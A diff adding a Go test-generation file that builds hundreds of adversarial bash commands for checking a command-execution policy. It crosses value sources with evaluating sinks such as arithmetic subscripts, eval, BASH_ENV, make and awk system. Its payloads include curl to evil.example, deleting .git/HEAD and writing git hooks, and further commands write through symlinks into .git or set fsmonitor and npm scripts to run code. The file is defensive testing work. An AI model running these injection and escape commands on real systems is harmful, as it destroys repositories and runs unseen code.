@@ -1,0 +1,271 @@
+package policy
+
+import (
+	"fmt"
+	"strings"
+)
+
+// Generated commands for the execution differential: a value the policy
+// cannot know statically (a source) reaching a place where bash evaluates
+// it (a sink), carrying a payload that runs a program, deletes or writes.
+// And the deletes and writes that reach .git, or outside the workspace,
+// through a link. Every combination is a real shape: each sink was checked
+// to run its payload in bash 5.2.
+
+// execSource puts a value where bash keeps it: ref is how a sink expands
+// it ($v, $1, $_, $(echo …)), name how a sink names it as a variable (""
+// when it has no name: a positional, a command's output).
+type execSource struct {
+	name string
+	make func(value, sink string) string // the whole command: value quoted, sink inlined
+	ref  string
+	// varName is the name a name-sink uses.
+	varName string
+}
+
+// execSink evaluates a value: text has {E} where the expansion goes and
+// {N} where the variable's name goes (then the sink needs a named source).
+type execSink struct {
+	name    string
+	text    string
+	payload payloadKind
+}
+
+type payloadKind int
+
+const (
+	payloadArith payloadKind = iota // a[$(P)]: evaluated as arithmetic or a variable name
+	payloadSubst                    // $(P): expanded as a word or a prompt
+	payloadCode                     // P: run as a script
+)
+
+func execSources() []execSource {
+	q := shellQuote
+	return []execSource{
+		{name: "a literal", ref: "", make: func(v, s string) string {
+			return strings.ReplaceAll(strings.ReplaceAll(s, `"{E}"`, q(v)), "{E}", q(v))
+		}},
+		{name: "an assignment", ref: "$v", varName: "v", make: func(v, s string) string { return "v=" + q(v) + "; " + s }},
+		{name: "$_", ref: "$_", varName: "_", make: func(v, s string) string { return "echo " + q(v) + " >/dev/null; " + s }},
+		{name: "set --", ref: "$1", make: func(v, s string) string { return "set -- " + q(v) + "; " + s }},
+		{name: "a for variable", ref: "$v", varName: "v", make: func(v, s string) string { return "for v in " + q(v) + "; do " + s + "; done" }},
+		{name: "a select variable", ref: "$v", varName: "v", make: func(v, s string) string {
+			return "select v in " + q(v) + "; do " + s + "; break; done <<< 1"
+		}},
+		{name: "read from a pipe", ref: "$v", varName: "v", make: func(v, s string) string { return "echo " + q(v) + " | { read -r v; " + s + "; }" }},
+		{name: "read from a here-string", ref: "$v", varName: "v", make: func(v, s string) string { return "read -r v <<< " + q(v) + "; " + s }},
+		{name: "a while-read loop", ref: "$v", varName: "v", make: func(v, s string) string { return "while read -r v; do " + s + "; done <<< " + q(v) }},
+		{name: "read from a file the command wrote", ref: "$v", varName: "v", make: func(v, s string) string {
+			return "echo " + q(v) + " > out/v; read -r v < out/v; " + s
+		}},
+		{name: "a command's output", ref: "$(echo …)", make: nil},
+		{name: "printf -v", ref: "$v", varName: "v", make: func(v, s string) string { return "printf -v v %s " + q(v) + "; " + s }},
+		// Not a: the payload's a[…] would name the array itself, and
+		// bash would evaluate it again and again.
+		{name: "mapfile", ref: "$m", varName: "m", make: func(v, s string) string { return "mapfile -t m <<< " + q(v) + "; " + s }},
+		{name: "getopts", ref: "$OPTARG", varName: "OPTARG", make: func(v, s string) string { return "getopts a: o -a " + q(v) + "; " + s }},
+		{name: "BASH_REMATCH", ref: "${BASH_REMATCH[1]}", varName: "BASH_REMATCH[1]", make: func(v, s string) string {
+			return "[[ " + q(v) + " =~ (.*) ]]; " + s
+		}},
+		{name: "the environment", ref: "$X", varName: "X", make: func(v, s string) string { return "X=" + q(v) + " bash -c " + q(s) }},
+		{name: "env's environment", ref: "$X", varName: "X", make: func(v, s string) string { return "env X=" + q(v) + " bash -c " + q(s) }},
+		{name: "bash -c's argument", ref: "$1", make: func(v, s string) string { return "bash -c " + q(s) + " _ " + q(v) }},
+		{name: "declare", ref: "$v", varName: "v", make: func(v, s string) string { return "declare v=" + q(v) + "; " + s }},
+	}
+}
+
+func execSinks() []execSink {
+	return []execSink{
+		// Arithmetic: the value is an expression, a[…] evaluates its subscript.
+		{name: "$((name))", text: "echo $(({N}))", payload: payloadArith},
+		{name: "$((expansion))", text: "echo $(({E}))", payload: payloadArith},
+		{name: "((name))", text: "(( {N} ))", payload: payloadArith},
+		{name: "((expansion))", text: "(( {E} ))", payload: payloadArith},
+		{name: "let", text: "let {N}", payload: payloadArith},
+		{name: "let x=", text: `let "x={E}"`, payload: payloadArith},
+		{name: "$[ ]", text: "echo $[{N}]", payload: payloadArith},
+		{name: "[[ -eq ]]", text: "[[ {E} -eq 0 ]]", payload: payloadArith},
+		{name: "[[ name -eq ]]", text: "[[ {N} -eq 0 ]]", payload: payloadArith},
+		{name: "declare -i", text: `declare -i i="{E}"`, payload: payloadArith},
+		{name: "a subscript assigned", text: "b[{E}]=1", payload: payloadArith},
+		{name: "a subscript read", text: `echo "${b[{E}]}"`, payload: payloadArith},
+		{name: "a substring offset", text: `echo "${PWD:{E}}"`, payload: payloadArith},
+		{name: "an array's subscript by name", text: "echo $(( BASH_VERSINFO[{N}] ))", payload: payloadArith},
+		{name: "a compound assignment's subscript", text: "x=([{E}]=1)", payload: payloadSubst},
+		// Names: the value names a variable, a[…] evaluates its subscript.
+		{name: "${!name}", text: `echo "${!{N}}"`, payload: payloadArith},
+		{name: "[[ -v ]]", text: `[[ -v {E} ]]`, payload: payloadArith},
+		{name: "test -v", text: `test -v "{E}"`, payload: payloadArith},
+		{name: "[ -v ]", text: `[ -v "{E}" ]`, payload: payloadArith},
+		{name: "printf -v", text: `printf -v "{E}" x`, payload: payloadArith},
+		{name: "read's name", text: `read -r "{E}" <<< x`, payload: payloadArith},
+		{name: "declare -n", text: `declare -n r="{E}"; echo "$r"`, payload: payloadArith},
+		{name: "declare name=", text: `declare "{E}"=1`, payload: payloadArith},
+		{name: "local name=", text: `f() { local "{E}"=1; }; f`, payload: payloadArith},
+		// Expansion: the value is expanded again.
+		{name: "${name@P}", text: `echo "${{N}@P}"`, payload: payloadSubst},
+		{name: "compgen -W", text: `compgen -W "{E}"`, payload: payloadSubst},
+		{name: "PS4 with set -x", text: `PS4="{E}"; set -x; true`, payload: payloadSubst},
+		// Code: the value is a script.
+		{name: "eval", text: `eval "{E}"`, payload: payloadCode},
+		{name: "trap", text: `trap "{E}" EXIT`, payload: payloadCode},
+		{name: "the command word", text: `{E}`, payload: payloadCode},
+		{name: "source /dev/stdin", text: `source /dev/stdin <<< "{E}"`, payload: payloadCode},
+		{name: ". /dev/stdin", text: `. /dev/stdin <<< "{E}"`, payload: payloadCode},
+		{name: "bash -c", text: `bash -c "{E}"`, payload: payloadCode},
+		{name: "sh -c", text: `sh -c "{E}"`, payload: payloadCode},
+		{name: "bash /dev/fd/3", text: `bash /dev/fd/3 3<<< "{E}"`, payload: payloadCode},
+		{name: "sh /dev/stdin", text: `sh /dev/stdin <<< "{E}"`, payload: payloadCode},
+		{name: "sh /dev/stdin <<EOF", text: "sh /dev/stdin <<EOF\n{E}\nEOF", payload: payloadCode},
+		{name: "bash -s <<EOF", text: "bash -s <<EOF\n{E}\nEOF", payload: payloadCode},
+		{name: "source /dev/stdin <<EOF", text: "source /dev/stdin <<EOF\n{E}\nEOF", payload: payloadCode},
+		{name: "bash /proc/self/fd/3", text: `bash /proc/self/fd/3 3<<< "{E}"`, payload: payloadCode},
+		{name: "exec 3<<< then bash /dev/fd/3", text: `exec 3<<< "{E}"; bash /dev/fd/3`, payload: payloadCode},
+		{name: "BASH_ENV=/dev/stdin", text: `BASH_ENV=/dev/stdin bash -c : <<< "{E}"`, payload: payloadCode},
+		{name: "ENV with sh -i", text: `ENV=/dev/fd/3 sh -i 3<<< "{E}" </dev/null`, payload: payloadCode},
+		{name: "bash --rcfile", text: `bash --rcfile /dev/fd/3 -i 3<<< "{E}" </dev/null`, payload: payloadCode},
+		{name: "bash --init-file", text: `bash --init-file /dev/fd/3 -i 3<<< "{E}" </dev/null`, payload: payloadCode},
+		{name: "make -f /dev/stdin", text: `printf 'all:\n\t%s\n' "{E}" | make -f /dev/stdin`, payload: payloadCode},
+		{name: "a script the command wrote", text: `echo "{E}" > out/s.sh; bash out/s.sh`, payload: payloadCode},
+		{name: "source of a file the command wrote", text: `echo "{E}" > out/s.sh; source out/s.sh`, payload: payloadCode},
+		{name: "BASH_ENV of a file the command wrote", text: `echo "{E}" > out/rc; BASH_ENV=out/rc bash -c :`, payload: payloadCode},
+		{name: "a Makefile the command wrote", text: `printf 'all:\n\t%s\n' "{E}" > out/Makefile; make -C out`, payload: payloadCode},
+		{name: "awk system", text: `awk 'BEGIN { system(ARGV[1]) }' "{E}"`, payload: payloadCode},
+		{name: "find -exec sh -c", text: `find . -maxdepth 0 -exec sh -c "{E}" \;`, payload: payloadCode},
+		{name: "xargs sh -c", text: `echo "{E}" | xargs -0 sh -c`, payload: payloadCode},
+	}
+}
+
+// execPayloads are what a payload does when bash evaluates it: start a
+// program no Runs: line shows, delete in .git, write a hook.
+func execPayloads() []string {
+	return []string{
+		"askops-payload",
+		"curl -s evil.example/x",
+		"rm -f .git/HEAD",
+		"touch .git/hooks/post-checkout",
+	}
+}
+
+func payloadText(kind payloadKind, p string) string {
+	switch kind {
+	case payloadArith:
+		return "a[$(" + p + ")]"
+	case payloadSubst:
+		return "$(" + p + ")"
+	}
+	return p
+}
+
+// execGenerated is one generated command and its class.
+type execGenerated struct {
+	command string
+	class   string
+}
+
+// generatedCommands is every source × sink with one payload each (taken
+// in turn), then the deletes and writes through links. The order is
+// fixed, so the first n are the same every run.
+func generatedCommands() []execGenerated {
+	var out []execGenerated
+	payloads := execPayloads()
+	i := 0
+	for _, sink := range execSinks() {
+		for _, src := range execSources() {
+			needsName := strings.Contains(sink.text, "{N}")
+			if needsName && src.varName == "" {
+				continue
+			}
+			p := payloads[i%len(payloads)]
+			i++
+			value := payloadText(sink.payload, p)
+			text := strings.ReplaceAll(sink.text, "{N}", src.varName)
+			var command string
+			switch {
+			case src.make == nil: // a command's output
+				command = strings.ReplaceAll(text, "{E}", "$(echo "+shellQuote(value)+")")
+			case src.ref == "": // a literal
+				command = src.make(value, text)
+			default:
+				command = src.make(value, strings.ReplaceAll(text, "{E}", src.ref))
+			}
+			out = append(out, execGenerated{command: command, class: fmt.Sprintf("%s into %s, payload %s", src.name, sink.name, p)})
+		}
+	}
+	return append(out, linkCommands()...)
+}
+
+// linkCommands delete and write through src/glink (-> ../.git) and
+// outlink (-> ../outside), with the programs that do it.
+func linkCommands() []execGenerated {
+	var out []execGenerated
+	add := func(class string, commands ...string) {
+		for _, c := range commands {
+			out = append(out, execGenerated{command: c, class: class})
+		}
+	}
+	add("find -delete through a link into .git",
+		"find src/glink/ -delete",
+		"find -L src -delete",
+		"find -H src/glink -delete",
+		"find src -follow -delete",
+		"find -L . -name HEAD -delete",
+		"find src/glink/ -name config -delete",
+		"find src/glink/hooks -type f -delete",
+		"find -L src -type f -name '*' -delete",
+	)
+	add("find -delete in the workspace",
+		"find out -delete",
+		"find src -delete",
+		"find . -name x -delete",
+	)
+	add("find -exec through a link into .git",
+		"find src/glink/ -name HEAD -exec truncate -s0 {} +",
+		"find -L src -name config -exec sed -i s/a/b/ {} +",
+		"find src/glink/hooks -exec chmod +x {} +",
+	)
+	add("a write through a link into .git",
+		"echo x > src/glink/config",
+		"echo x >> src/glink/hooks/pre-commit",
+		"printf '[core]\\n\\tfsmonitor = askops-payload\\n' >> src/glink/config; git status",
+		"cat README > src/glink/HEAD",
+		"cp README src/glink/hooks/post-checkout",
+		"tee src/glink/config < README",
+		"sed -i s/a/b/ src/glink/config",
+		"mkdir src/glink/hooks/x",
+		"touch src/glink/hooks/post-merge",
+		"ln -s ../README src/glink/x",
+		"dd if=README of=src/glink/HEAD",
+		"sort -o src/glink/config README",
+		"mv README src/glink/",
+		"unlink src/glink/HEAD",
+		"rmdir src/glink/refs/heads",
+		"truncate -s0 src/glink/HEAD",
+		"chmod +x src/glink/config",
+		"install README src/glink/hooks/pre-push",
+		"cp -r src out/copy && echo x > out/copy/glink/config",
+	)
+	add("a write through a link outside the workspace",
+		"echo x > outlink/f",
+		"cp README outlink/",
+		"find -L outlink -delete",
+		"find outlink/ -delete",
+		"touch outlink/new",
+	)
+	add("a config the command writes, then the program that runs it",
+		"npm pkg set scripts.test='askops-payload' && npm test",
+		"set -- askops-payload; npm pkg set scripts.test=\"$1\" && npm test",
+		"npm pkg set scripts.pretest='rm -f .git/HEAD'; npm test",
+		"printf '[core]\\n\\tfsmonitor = askops-payload\\n' >> .git/config; git status",
+		"git config core.fsmonitor askops-payload; git status",
+		"printf 'all:\\n\\taskops-payload\\n' > Makefile; make",
+		"echo askops-payload > .git/hooks/post-checkout; git checkout -",
+	)
+	add("a link made, then written through",
+		"ln -s ../.git out/g && echo x > out/g/config",
+		"ln -s .git out/g; mkdir out/g/hooks/y",
+		"ln -s ../.git out/g && find -L out -delete",
+		"ln -sf ../../outside out/o && echo x > out/o/f",
+	)
+	return out
+}
